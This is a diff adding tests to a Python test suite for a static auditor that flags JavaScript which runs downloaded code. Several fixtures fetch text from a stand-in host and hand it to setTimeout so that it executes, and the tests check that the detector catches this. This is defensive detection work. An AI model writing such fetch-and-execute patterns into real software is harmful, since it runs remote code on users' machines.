@@ -72,3 +72,27 @@ def test_files_that_share_nothing_secret_are_not_mixed_up() -> None:
         "lib.keep(lib.key);\n",
     }
     assert not [item for item in audit_code(files).findings if item.rule == "code-credential-sent"]
+
+
+SCAN = "async function scan() { return (await fetch('https://api.acme.invalid/x')).text(); }\n"
+
+
+def test_a_function_of_another_file_is_called_later_and_no_text_of_it_runs() -> None:
+    files = {
+        "b.js": f"{SCAN}module.exports = {{ scan }};\n",
+        "a.js": "const { scan } = require('./b');\nsetInterval(scan, 9);\n",
+    }
+    assert "javascript-downloaded-execution" not in {finding.rule for finding in audit_code(files).findings}
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "const t = await scan();\nsetTimeout(t, 9);\n",
+        "let run = scan;\nif (process.argv[2]) run = await scan();\nsetTimeout(run, 9);\n",
+        "scan().then((t) => setTimeout(t, 9));\n",
+    ],
+)
+def test_what_a_function_of_another_file_fetches_is_no_function(text: str) -> None:
+    files = {"b.mjs": f"{SCAN}export {{ scan }};\n", "a.mjs": f"import {{ scan }} from './b.mjs';\n{text}"}
+    assert "javascript-downloaded-execution" in {finding.rule for finding in audit_code(files).findings}
